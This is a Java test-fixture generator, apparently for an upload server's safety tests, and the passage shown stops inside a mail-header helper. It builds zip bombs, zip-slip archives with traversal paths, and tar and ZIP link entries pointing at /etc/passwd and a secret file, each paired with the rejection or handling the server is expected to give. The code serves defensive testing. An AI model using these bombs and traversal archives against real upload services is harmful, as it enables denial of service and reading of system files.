package org.hetong.testing;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.CharBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.Charset;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.hetong.ingest.Fixtures;

/**
 * Hostile files for the upload safety test: corrupt, truncated, encrypted, zip bombs, zip-slip
 * names, deep nesting, thousands of entries, zero bytes, huge, wrong extensions, odd encodings,
 * malformed mail, XML entity expansion and external entities, unsupported formats, images without
 * text and odd file names — each with the outcome the server must give it.
 *
 * <p>Deterministic: the same {@link Settings} give the same bytes (random content comes from fixed
 * seeds; the run-specific marker, secret file and canary address come in through the settings).
 * Bounded: every generator writes a fixed number of bytes into memory, bombs are streamed into
 * their compressor (never held expanded), and the whole set is checked against
 * {@link #MAX_TOTAL_BYTES}. Every file has bytes of its own (except the zero-byte files, which
 * cannot), so no file is reported as a duplicate of another.
 */
public final class HostileFiles {
    /** The whole set, in memory, stays below this. */
    public static final long MAX_TOTAL_BYTES = 60L << 20;
    public static final String STORED = "stored";
    public static final String DUPLICATE = "duplicate";

    /**
     * What the generator needs to know about the server and the run.
     *
     * @param maxFileBytes the server's single-file limit (one file is made just over it)
     * @param maxEntries   the server's entry limit (archives with more entries are made)
     * @param maxDepth     the server's nesting limit (archives nested deeper are made)
     * @param marker       a random word of this run; zip-slip entries name files after it
     * @param secretFile   a file outside the data directory that no document may ever contain
     * @param canaryUrl    an http:// address that no parser may ever fetch (without trailing slash)
     */
    public record Settings(long maxFileBytes, int maxEntries, int maxDepth, String marker, Path secretFile, String canaryUrl) {}

    /**
     * The acceptable outcomes of one item ({@link #STORED}, {@link #DUPLICATE} or failure codes) and,
     * when it is stored, phrases its extracted text must contain; a failure's message must contain
     * {@code messageContains}; {@code noChildren} says nothing inside it may become an item.
     */
    public record Expect(Set<String> outcomes, List<String> textContains, String messageContains, boolean noChildren,
                         int maxTextChars) {
        public static Expect stored(String... text) {
            return new Expect(Set.of(STORED), List.of(text), null, false, 0);
        }

        public static Expect failed(String code) {
            return new Expect(Set.of(code), List.of(), null, false, 0);
        }

        public static Expect failed(String code, String messageContains) {
            return new Expect(Set.of(code), List.of(), messageContains, false, 0);
        }

        /** Any of these outcomes (for files whose fate depends on how much a lenient parser recovers). */
        public static Expect oneOf(String... outcomes) {
            return new Expect(new LinkedHashSet<>(List.of(outcomes)), List.of(), null, false, 0);
        }

        public Expect withText(String... text) {
            return new Expect(outcomes, List.of(text), messageContains, noChildren, maxTextChars);
        }

        public Expect withNoChildren() {
            return new Expect(outcomes, textContains, messageContains, true, maxTextChars);
        }

        public Expect withTextAtMost(int chars) {
            return new Expect(outcomes, textContains, messageContains, noChildren, chars);
        }

        public boolean allows(String outcome) {
            return outcomes.contains(outcome);
        }

        @Override
        public String toString() {
            return outcomes + (textContains.isEmpty() ? "" : " text " + textContains)
                    + (messageContains == null ? "" : " message ~" + messageContains);
        }
    }

    /** A file inside a container: its path below the container, as the item name continues it ({@code a.zip!/b.zip}). */
    public record Child(String path, Expect expect) {}

    /** One hostile file: its kind, its upload name, its bytes, and what must become of it and of files inside it. */
    public record HostileFile(String kind, String name, byte[] bytes, Expect expect, List<Child> children) {
        @Override
        public String toString() {
            return kind + " '" + name + "' (" + bytes.length + " B)";
        }
    }

    // ---- texts ----------------------------------------------------------------------------------

    /** A short simplified-Chinese contract, unique by its number; GB2312-encodable. */
    static String contract(String number) {
        return """
                软件开发合同
                合同编号：%s
                甲方：青岚云图科技有限公司
                乙方：北辰墨羽软件有限公司

                第一条 合同标的
                乙方为甲方开发财务管理系统，并交付源代码及使用手册。

                第二条 知识产权
                本合同项下开发成果的著作权归甲方所有。

                第三条 违约责任
                任何一方违约的，应向守约方支付合同总价款百分之十的违约金。
                """.formatted(number);
    }

    /** A short traditional-Chinese contract, unique by its number; Big5-encodable. */
    static String traditional(String number) {
        return """
                軟體授權合約
                合約編號：%s
                甲方：雲杉資訊股份有限公司
                乙方：海燕數位科技有限公司

                第一條 授權範圍
                乙方授權甲方於其營業場所使用本軟體，不得轉授權予第三人。

                第二條 智慧財產權
                本合約之智慧財產權歸甲方所有。
                """.formatted(number);
    }

    /** The phrases that show a simplified contract was read and decoded right. */
    static String[] contractPhrases(String number) {
        return new String[] {number, "乙方为甲方开发财务管理系统", "著作权归甲方所有"};
    }

    static String[] traditionalPhrases(String number) {
        return new String[] {number, "乙方授權甲方於其營業場所使用本軟體", "智慧財產權歸甲方所有"};
    }

    // ---- generation -----------------------------------------------------------------------------

    private final Settings settings;
    private final List<HostileFile> files = new ArrayList<>();
    private int counter;

    private HostileFiles(Settings settings) {
        this.settings = settings;
    }

    /** The whole set, in upload order. */
    public static List<HostileFile> generate(Settings settings) {
        HostileFiles g = new HostileFiles(settings);
        try {
            g.corruptPdfs();
            g.corruptDocx();
            g.corruptZips();
            g.corruptGzip();
            g.encryptedPdfs();
            g.encryptedDocx();
            g.zipBombs();
            g.deepNesting();
            g.manyEntries();
            g.zipSlip();
            g.emptyFiles();
            g.tooLarge();
            g.wrongExtensions();
            g.oddEncodings();
            g.malformedMail();
            g.entityExpansion();
            g.externalEntities();
            g.randomBinary();
            g.rar();
            g.images();
            g.oddNames();
            g.pathologicalStructure();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        g.checkBoundsAndUniqueness();
        return List.copyOf(g.files);
    }

    /** A unique number for one generated text. */
    private String number(String prefix) {
        return String.format("%s-%04d", prefix, ++counter);
    }

    private void add(String kind, String name, byte[] bytes, Expect expect, Child... children) {
        files.add(new HostileFile(kind, name, bytes, expect, List.of(children)));
    }

    private void checkBoundsAndUniqueness() {
        long total = 0;
        Map<String, String> seen = new HashMap<>();
        for (HostileFile f : files) {
            total += f.bytes().length;
            if (f.bytes().length == 0) {
                continue;
            }
            String previous = seen.put(sha256(f.bytes()), f.toString());
            if (previous != null) {
                throw new IllegalStateException("two hostile files have the same bytes: " + previous + " and " + f);
            }
        }
        if (total > MAX_TOTAL_BYTES) {
            throw new IllegalStateException("the hostile set is " + total + " bytes, over " + MAX_TOTAL_BYTES);
        }
    }

    // ---- corrupt and truncated ------------------------------------------------------------------

    private void corruptPdfs() throws IOException {
        // Cut at fractions of the file: lenient PDF parsers recover what they can, or report the file as corrupt.
        double[] cuts = {0.05, 0.15, 0.3, 0.45, 0.6, 0.75, 0.9, 0.97};
        for (double cut : cuts) {
            String n = number("PT");
            byte[] pdf = Fixtures.chinesePdf(contract(n).split("\n"));
            // Cut before the page tree: corrupt; cut near the end: PDFBox rebuilds the file and reads all of it.
            add("corrupt-pdf", "截断-" + (int) (cut * 100) + ".pdf", Arrays.copyOf(pdf, (int) (pdf.length * cut)),
                    Expect.oneOf(STORED, "corrupt", "no_text").withText(n));
        }
        add("corrupt-pdf", "只有文件头.pdf", ascii("%PDF-1.7\n"), Expect.failed("corrupt", "损坏"));
        for (int seed = 1; seed <= 2; seed++) {
            add("corrupt-pdf", "文件头加乱码-" + seed + ".pdf", concat(ascii("%PDF-1.4\n%\u00e2\u00e3\n"), random(seed * 101L, 8 * 1024)),
                    Expect.failed("corrupt"));
        }
        {
            // A whole PDF whose cross-reference table points nowhere: PDFBox rebuilds it and reads the text.
            String n = number("PX");
            byte[] pdf = Fixtures.chinesePdf(contractPhrases(n));
            String s = new String(pdf, StandardCharsets.ISO_8859_1);
            int xref = s.lastIndexOf("startxref");
            byte[] broken = (s.substring(0, xref) + "startxref\n999999999\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
            add("corrupt-pdf", "交叉引用表损坏.pdf", broken, Expect.oneOf(STORED, "corrupt").withText(n));
        }
        {
            // Bytes overwritten in the middle of the file.
            String n = number("PM");
            byte[] pdf = Fixtures.chinesePdf(contract(n).split("\n"));
            byte[] mangled = pdf.clone();
            Random r = new Random(7);
            for (int i = mangled.length / 3; i < mangled.length / 3 + 200 && i < mangled.length; i++) {
                mangled[i] = (byte) r.nextInt(256);
            }
            add("corrupt-pdf", "中间被覆盖.pdf", mangled, Expect.oneOf(STORED, "corrupt", "no_text"));
        }
    }

    private void corruptDocx() throws IOException {
        for (double cut : new double[] {0.1, 0.3, 0.5, 0.7, 0.9, 0.99}) {
            String n = number("DT");
            byte[] docx = Fixtures.docx(contract(n));
            // The central directory is at the end: streaming reads the parts that are complete, or the file is corrupt.
            add("corrupt-docx", "截断-" + (int) (cut * 100) + ".docx", Arrays.copyOf(docx, (int) (docx.length * cut)),
                    Expect.oneOf("corrupt", STORED).withText(contractPhrases(n)));
        }
        {
            byte[] docx = Fixtures.docx(contract(number("DG")));
            add("corrupt-docx", "正文乱码.docx", replaceEntry(docx, "word/document.xml", random(11, 2048)), Expect.failed("corrupt"));
        }
        {
            byte[] docx = Fixtures.docx(contract(number("DM")));
            add("corrupt-docx", "缺少正文部件.docx", replaceEntry(docx, "word/document.xml", null), Expect.failed("corrupt", "缺少正文"));
        }
        {
            // Without [Content_Types].xml there is no main document either.
            byte[] docx = Fixtures.docx(contract(number("DC")));
            add("corrupt-docx", "缺少内容类型.docx", replaceEntry(docx, "[Content_Types].xml", null), Expect.failed("corrupt", "缺少正文"));
        }
        {
            byte[] docx = Fixtures.docx(contract(number("DX")));
            add("corrupt-docx", "正文不是XML.docx", replaceEntry(docx, "word/document.xml", utf8("<w:document><<<>>>&&&;</w:document")),
                    Expect.failed("corrupt"));
        }
    }

    private void corruptZips() throws IOException {
        for (double cut : new double[] {0.2, 0.5, 0.8, 0.95}) {
            byte[] zip = Fixtures.zip(Fixtures.entries(
                    "合同一.txt", utf8(contract(number("ZT"))),
                    "合同二.docx", Fixtures.docx(contract(number("ZT"))),
                    "合同三.txt", utf8(contract(number("ZT")))));
            add("corrupt-zip", "截断-" + (int) (cut * 100) + ".zip", Arrays.copyOf(zip, (int) (zip.length * cut)),
                    Expect.failed("corrupt").withNoChildren());
        }
        for (int seed = 1; seed <= 2; seed++) {
            byte[] zip = Fixtures.zip(Fixtures.entries("合同.txt", utf8(contract(number("ZC").repeat(20)))));
            byte[] bad = zip.clone();
            Random r = new Random(seed);
            for (int i = 40; i < 90; i++) {
                bad[i] = (byte) r.nextInt(256);
            }
            add("corrupt-zip", "压缩数据损坏-" + seed + ".zip", bad, Expect.failed("corrupt"));
        }
        {
            // The local headers are intact: the entries are read from them.
            String n = number("ZD");
            byte[] zip = Fixtures.zip(Fixtures.entries("合同.txt", utf8(contract(n))));
            byte[] bad = zip.clone();
            String s = new String(bad, StandardCharsets.ISO_8859_1);
            int central = s.indexOf("PK\u0001\u0002");
            Random r = new Random(3);
            for (int i = central + 4; i < bad.length - 22; i++) {
                bad[i] = (byte) r.nextInt(256);
            }
            add("corrupt-zip", "中央目录损坏.zip", bad, Expect.oneOf("corrupt", STORED), new Child("合同.txt", Expect.stored(contractPhrases(n))));
        }
        {
            // The general-purpose flag says "encrypted" although the data is not (bit 0 set in both headers).
            byte[] zip = Fixtures.zip(Fixtures.entries("加密条目.txt", utf8(contract(number("ZE")))));
            String s = new String(zip, StandardCharsets.ISO_8859_1);
            zip[6] |= 1;
            zip[s.indexOf("PK\u0001\u0002") + 8] |= 1;
            add("corrupt-zip", "声称加密的条目.zip", zip, Expect.stored(), new Child("加密条目.txt", Expect.failed("encrypted", "需要密码")));
        }
    }

    private void corruptGzip() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(utf8(contract(number("GZ")).repeat(40)));
        }
        byte[] gz = out.toByteArray();
        add("corrupt-zip", "截断.gz", Arrays.copyOf(gz, gz.length / 2), Expect.failed("corrupt"));
    }

    // ---- encrypted ------------------------------------------------------------------------------

    private void encryptedPdfs() throws IOException {
        String[] passwords = {"qinglan2024", "123456", "合同密码", "p@ss w0rd!", "x".repeat(32)};
        int[] keyLengths = {128, 40, 256, 128, 256};
        for (int i = 0; i < passwords.length; i++) {
            byte[] pdf = encryptedPdf(contractPhrases(number("EP")), "owner-" + i, passwords[i], keyLengths[i]);
            add("encrypted-pdf", "加密合同-" + (i + 1) + ".pdf", pdf, Expect.failed("encrypted", "需要密码"));
        }
        // Only an owner password (restricting printing and copying): anyone may open and read it.
        for (int i = 0; i < 2; i++) {
            String n = number("EO");
            byte[] pdf = encryptedPdf(contractPhrases(n), "owner-only-" + i, "", i == 0 ? 128 : 256);
            add("encrypted-pdf", "仅限制权限-" + (i + 1) + ".pdf", pdf, Expect.stored(n, "著作权归甲方所有"));
        }
    }

    private void encryptedDocx() throws IOException {
        String[] passwords = {"qinglan2024", "合同密码", "Secret!2024"};
        for (int i = 0; i < passwords.length; i++) {
            add("encrypted-docx", "加密合同-" + (i + 1) + ".docx",
                    encryptDocx(Fixtures.docx(contract(number("ED"))), passwords[i], EncryptionMode.agile),
                    Expect.failed("encrypted", "需要密码"));
        }
        for (int i = 0; i < 2; i++) {
            add("encrypted-docx", "标准加密合同-" + (i + 1) + ".docx",
                    encryptDocx(Fixtures.docx(contract(number("ES"))), "standard-" + i, EncryptionMode.standard),
                    Expect.failed("encrypted", "需要密码"));
        }
        {
            String n = number("EZ");
            byte[] zip = Fixtures.zip(Fixtures.entries(
                    "加密.docx", encryptDocx(Fixtures.docx(contract(number("EZ"))), "inner", EncryptionMode.agile),
                    "说明.txt", utf8(contract(n))));
            add("encrypted-docx", "含加密文档的压缩包.zip", zip, Expect.stored(),
                    new Child("加密.docx", Expect.failed("encrypted", "需要密码")),
                    new Child("说明.txt", Expect.stored(contractPhrases(n))));
        }
    }

    // ---- bombs, nesting, many entries -----------------------------------------------------------

    private static final long BOMB_BYTES = 110L << 20;

    private void zipBombs() throws IOException {
        add("zip-bomb", "压缩炸弹.zip", zeroZip("zeros.txt", BOMB_BYTES, 1),
                Expect.failed("archive_limit", "压缩比").withNoChildren());
        add("zip-bomb", "多条目压缩炸弹.zip", zeroZip("part.txt", 30L << 20, 5),
                Expect.failed("archive_limit").withNoChildren());
        add("zip-bomb", "压缩炸弹.gz", gzipZeros(BOMB_BYTES), Expect.failed("archive_limit").withNoChildren());
        add("zip-bomb", "压缩炸弹.bz2", bzip2Zeros(BOMB_BYTES), Expect.failed("archive_limit").withNoChildren());
        add("zip-bomb", "压缩炸弹.tar.gz", tarGzZeros(BOMB_BYTES), Expect.failed("archive_limit").withNoChildren());
        {
            String n = number("ZB");
            byte[] outer = Fixtures.zip(Fixtures.entries(
                    "说明.txt", utf8(contract(n)),
                    "内层炸弹.zip", zeroZip("inner-zeros.txt", BOMB_BYTES, 2)));
            add("zip-bomb", "外层包着炸弹.zip", outer, Expect.stored(),
                    new Child("说明.txt", Expect.stored(contractPhrases(n))),
                    new Child("内层炸弹.zip", Expect.failed("archive_limit", "压缩比")));
        }
        {
            // One entry over the single-file limit, in an archive whose overall ratio stays under the bomb limit:
            // that entry fails alone and the others are stored.
            String n = number("ZL");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("随机数据.bin"));
                zip.write(random(2024, 320 * 1024));
                zip.closeEntry();
                zip.putNextEntry(new ZipEntry("超大条目.txt"));
                writeZeros(zip, settings.maxFileBytes() + (1 << 20));
                zip.closeEntry();
                zip.putNextEntry(new ZipEntry("合同.txt"));
                zip.write(utf8(contract(n)));
                zip.closeEntry();
            }
            add("too-large", "含超大条目.zip", out.toByteArray(), Expect.stored(),
                    new Child("随机数据.bin", Expect.failed("unsupported")),
                    new Child("超大条目.txt", Expect.failed("too_large", "上限")),
                    new Child("合同.txt", Expect.stored(contractPhrases(n))));
        }
    }

    private void deepNesting() throws IOException {
        for (int levels : new int[] {settings.maxDepth() + 2, settings.maxDepth() + 5}) {
            // levels archives inside the uploaded one; each also holds a text of its own.
            List<String> numbers = new ArrayList<>();
            for (int i = 0; i <= levels; i++) {
                numbers.add(number("NZ"));
            }
            byte[] inner = utf8(contract(number("NZ")));
            String innerName = "最深处.txt";
            for (int level = levels; level >= 1; level--) {
                inner = Fixtures.zip(Fixtures.entries(innerName, inner, "说明-" + level + ".txt", utf8(contract(numbers.get(level)))));
                innerName = "第" + level + "层.zip";
            }
            byte[] top = Fixtures.zip(Fixtures.entries(innerName, inner, "说明-0.txt", utf8(contract(numbers.get(0)))));
            List<Child> children = new ArrayList<>();
            String path = "";
            for (int level = 1; level <= levels; level++) {
                int depth = level; // the archive of this level sits at this depth below the upload
                String archive = path + "第" + level + "层.zip";
                String note = path + "说明-" + (level - 1) + ".txt";
                children.add(new Child(note, depth <= settings.maxDepth()
                        ? Expect.stored(contractPhrases(numbers.get(level - 1))) : Expect.failed("too_deep", "层")));
                children.add(new Child(archive, depth <= settings.maxDepth() ? Expect.stored() : Expect.failed("too_deep", "层")));
                if (depth > settings.maxDepth()) {
                    break;
                }
                path = archive + "!/";
            }
            add("deep-nesting", "嵌套" + levels + "层.zip", top, Expect.stored(), children.toArray(Child[]::new));
        }
    }

    private void manyEntries() throws IOException {
        for (int count : new int[] {settings.maxEntries() + 100, settings.maxEntries() * 2}) {
            Map<String, byte[]> entries = new LinkedHashMap<>();
            for (int i = 1; i <= count; i++) {
                entries.put(String.format("条目/%05d.txt", i), utf8("验收记录 " + count + "-" + i + "：系统运行正常。"));
            }
            add("many-entries", count + "个条目.zip", Fixtures.zip(entries),
                    Expect.failed("archive_limit", "文件数超过上限").withNoChildren());
        }
    }

    private void zipSlip() throws IOException {
        String m = settings.marker();
        List<String[]> names = List.of(
                new String[] {"../../../../tmp/hetong-evil-" + m + "-rel.txt", "../../../../tmp/hetong-evil-" + m + "-rel.txt"},
                new String[] {"/tmp/hetong-evil-" + m + "-abs.txt", "/tmp/hetong-evil-" + m + "-abs.txt"},
                new String[] {"..\\..\\hetong-evil-" + m + "-win.txt", "../../hetong-evil-" + m + "-win.txt"},
                new String[] {"C:\\Windows\\Temp\\hetong-evil-" + m + "-drive.txt", "C:/Windows/Temp/hetong-evil-" + m + "-drive.txt"},
                new String[] {"./../././../hetong-evil-" + m + "-dots.txt", "./../././../hetong-evil-" + m + "-dots.txt"});
        Map<String, byte[]> all = new LinkedHashMap<>();
        List<Child> allChildren = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            String n = number("ZS");
            add("zip-slip", "路径穿越-" + (i + 1) + ".zip", Fixtures.zip(Fixtures.entries(names.get(i)[0], utf8(contract(n)))),
                    Expect.stored(), new Child(names.get(i)[1], Expect.stored(contractPhrases(n))));
            String n2 = number("ZS");
            all.put(names.get(i)[0], utf8(contract(n2)));
            allChildren.add(new Child(names.get(i)[1], Expect.stored(contractPhrases(n2))));
        }
        add("zip-slip", "路径穿越-全部.zip", Fixtures.zip(all), Expect.stored(), allChildren.toArray(Child[]::new));
        {
            // A tar with a traversing name, a symbolic link and a hard link to files of the server.
            String n = number("TS");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
                tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
                byte[] text = utf8(contract(n));
                TarArchiveEntry slip = new TarArchiveEntry("../../../../tmp/hetong-evil-" + m + "-tar.txt", true);
                slip.setSize(text.length);
                tar.putArchiveEntry(slip);
                tar.write(text);
                tar.closeArchiveEntry();
                TarArchiveEntry symlink = new TarArchiveEntry("link-to-passwd.txt", TarConstants.LF_SYMLINK);
                symlink.setLinkName("/etc/passwd");
                tar.putArchiveEntry(symlink);
                tar.closeArchiveEntry();
                TarArchiveEntry hardlink = new TarArchiveEntry("hardlink-to-secret.txt", TarConstants.LF_LINK);
                hardlink.setLinkName(settings.secretFile().toString());
                tar.putArchiveEntry(hardlink);
                tar.closeArchiveEntry();
            }
            add("zip-slip", "路径穿越和链接.tar", out.toByteArray(), Expect.stored(),
                    new Child("../../../../tmp/hetong-evil-" + m + "-tar.txt", Expect.stored(contractPhrases(n))));
        }
        {
            // A ZIP entry marked as a Unix symbolic link to /etc/passwd: its content is the link target, never the file.
            String n = number("ZK");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
                ZipArchiveEntry link = new ZipArchiveEntry("passwd-link");
                link.setUnixMode(0120777);
                zip.putArchiveEntry(link);
                zip.write(ascii("/etc/passwd"));
                zip.closeArchiveEntry();
                ZipArchiveEntry text = new ZipArchiveEntry("合同.txt");
                zip.putArchiveEntry(text);
                zip.write(utf8(contract(n)));
                zip.closeArchiveEntry();
            }
            add("zip-slip", "符号链接条目.zip", out.toByteArray(), Expect.stored(),
                    new Child("合同.txt", Expect.stored(contractPhrases(n))));
        }
    }

    // ---- empty and too large --------------------------------------------------------------------

    private void emptyFiles() throws IOException {
        // Zero bytes are the same bytes however they are named: the first is empty, the others duplicates of it
        // (zero-byte entries of archives and mails earlier in the set may come first).
        add("empty", "空文件.pdf", new byte[0], Expect.oneOf("empty", DUPLICATE));
        add("empty", "空文件.docx", new byte[0], Expect.oneOf("empty", DUPLICATE));
        add("empty", "空文件.txt", new byte[0], Expect.oneOf("empty", DUPLICATE));
        byte[] emptyZip = new byte[22];
        emptyZip[0] = 'P';
        emptyZip[1] = 'K';
        emptyZip[2] = 5;
        emptyZip[3] = 6;
        add("empty", "空压缩包.zip", emptyZip, Expect.failed("empty"));
        add("empty", "只有目录.zip", Fixtures.zip(Fixtures.entries("目录/", null, "目录/子目录/", null)), Expect.failed("empty"));
        add("empty", "只有空白.txt", ascii(" \r\n\t \r\n   \n"), Expect.failed("no_text"));
        add("empty", "只有空白的文档.docx", Fixtures.docx("   \n \n"), Expect.failed("no_text"));
    }

    private void tooLarge() {
        byte[] big = new byte[(int) settings.maxFileBytes() + 1];
        Arrays.fill(big, (byte) 'A');
        add("too-large", "超大文件.txt", big, Expect.failed("too_large", "上限"));
    }

    // ---- wrong extension ------------------------------------------------------------------------

    private void wrongExtensions() throws IOException {
        String n;
        n = number("WE");
        add("wrong-extension", "其实是PDF.docx", Fixtures.chinesePdf(contractPhrases(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是文本.pdf", utf8(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是Word.pdf", Fixtures.docx(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是Word.txt", Fixtures.docx(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是网页.docx", utf8("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>通知</title></head><body><p>"
                + contract(n).replace("\n", "</p><p>") + "</p></body></html>"), Expect.stored(contractPhrases(n)));
        n = number("WE");
        String attached = number("WE");
        add("wrong-extension", "其实是邮件.pdf", Fixtures.mail("合同确认 " + n, contract(n), "附件合同.txt", "text/plain",
                utf8(contract(attached))), Expect.stored(n), new Child("附件合同.txt", Expect.stored(contractPhrases(attached))));
        n = number("WE");
        add("wrong-extension", "其实是压缩包.pdf", Fixtures.zip(Fixtures.entries("合同.txt", utf8(contract(n)))), Expect.stored(),
                new Child("合同.txt", Expect.stored(contractPhrases(n))));
        add("wrong-extension", "其实是图片.docx", png(64, 48, new Color(200, 30, 30), "wrong-ext"), Expect.failed(PICTURE));
        n = number("WE");
        add("wrong-extension", "其实是文本.zip", utf8(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "合同.exe", Fixtures.chinesePdf(contractPhrases(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "没有扩展名", Fixtures.chinesePdf(contractPhrases(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是DOCX.doc", Fixtures.docx(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是RTF.docx", rtf(contract(n)), Expect.stored(contractPhrases(n)));
        n = number("WE");
        add("wrong-extension", "其实是GBK文本.pdf", encode(contract(n), "GBK"), Expect.stored(contractPhrases(n)));
    }

    // ---- odd encodings --------------------------------------------------------------------------

    private void oddEncodings() throws IOException {
        String n;
        for (String charset : List.of("GB18030", "GBK", "GB2312")) {
            n = number("CS");
            add("odd-encoding", charset + "-合同.txt", encode(contract(n), charset), Expect.stored(contractPhrases(n)));
        }
        n = number("CS");
        // GB18030 four-byte characters (CJK extension A and B) among common text.
        add("odd-encoding", "GB18030-四字节.txt", encode(contract(n) + "附注：䶮㐀丶𠀀。\n", "GB18030"),
                Expect.stored(contractPhrases(n)).withText("䶮㐀丶𠀀"));
        for (int i = 0; i < 2; i++) {
            n = number("TW");
            add("odd-encoding", "Big5-合約-" + (i + 1) + ".txt", encode(traditional(n), "Big5"), Expect.stored(traditionalPhrases(n)));
        }
        for (String charset : List.of("UTF-16LE", "UTF-16BE")) {
            n = number("CS");
            add("odd-encoding", charset + "-无BOM.txt", encode(contract(n), charset), Expect.stored(contractPhrases(n)));
            add("odd-encoding", charset + "-无BOM-单行.txt", encode("软件开发合同著作权归甲方所有乙方为甲方开发财务管理系统第" + (charset.endsWith("LE") ? "一" : "二") + "号", charset),
                    Expect.stored("乙方为甲方开发财务管理系统"));
            n = number("CS");
            byte[] bom = charset.endsWith("LE") ? new byte[] {(byte) 0xFF, (byte) 0xFE} : new byte[] {(byte) 0xFE, (byte) 0xFF};
            add("odd-encoding", charset + "-有BOM.txt", concat(bom, encode(contract(n), charset)), Expect.stored(contractPhrases(n)));
        }
        n = number("TW");
        add("odd-encoding", "UTF-16LE-繁体-无BOM.txt", encode(traditional(n), "UTF-16LE"), Expect.stored(traditionalPhrases(n)));
        n = number("CS");
        add("odd-encoding", "UTF-8-BOM.txt", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(contract(n))),
                Expect.stored(contractPhrases(n)));
        for (int i = 0; i < 2; i++) {
            n = number("SJ");
            String english = """
                    SOFTWARE LICENSE AGREEMENT No. %s
                    Licensor: Aoba Systems K.K. (青葉システム株式会社)
                    Licensee: Qinglan Cloud Technology Co., Ltd.
                    1. The Licensee shall pay the license fee within thirty (30) days of the invoice.
                    2. This Agreement is governed by the laws of Japan. 以上
                    """.formatted(n);
            add("odd-encoding", "Shift_JIS-" + (i + 1) + ".txt", encode(english, "Shift_JIS"),
                    Expect.stored(n, "SOFTWARE LICENSE AGREEMENT", "within thirty (30) days"));
        }
        n = number("CS");
        add("odd-encoding", "GBK网页.html", encode("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=gbk\">"
                + "<title>合同</title></head><body><p>" + contract(n).replace("\n", "</p><p>") + "</p></body></html>", "GBK"),
                Expect.stored(contractPhrases(n)));
        n = number("TW");
        add("odd-encoding", "Big5網頁.htm", encode("<html><head><meta charset=\"big5\"><title>合約</title></head><body><p>"
                + traditional(n).replace("\n", "</p><p>") + "</p></body></html>", "Big5"), Expect.stored(traditionalPhrases(n)));
        n = number("CS");
        add("odd-encoding", "GB18030-说明.md", encode("# " + contract(n), "GB18030"), Expect.stored(contractPhrases(n)));
        n = number("CS");
        {
            // UTF-8 with one stray byte in the middle (a copy error): still UTF-8, not another charset.
            byte[] text = utf8(contract(n) + contract(n).repeat(3));
            int at = utf8(contract(n)).length - 1; // just before the trailing newline of the first copy
            byte[] damaged = concat(Arrays.copyOf(text, at), new byte[] {(byte) 0xFF}, Arrays.copyOfRange(text, at, text.length));
            add("odd-encoding", "UTF-8-夹杂坏字节.txt", damaged, Expect.stored(contractPhrases(n)));
        }
    }

    // ---- malformed mail -------------------------------------------------------------------------

    private String headers(String subjectNumber) {
        return "From: =?UTF-8?B?" + b64(utf8("张明")) + "?= <zhangming@qinglan.example>\r\n"
                + "To: lihua@beichen.example\r\n"
                + "Subject: =?UTF-8?B?" + b64(utf8("合同往来 " + subjectNumber)) + "?=\r\n"
                + "Date: Fri, 15 Mar 2024 10:20:00 +0800\r\n"
                + "Message-ID: <" + subjectNumber + "@qinglan.example>\r\n"
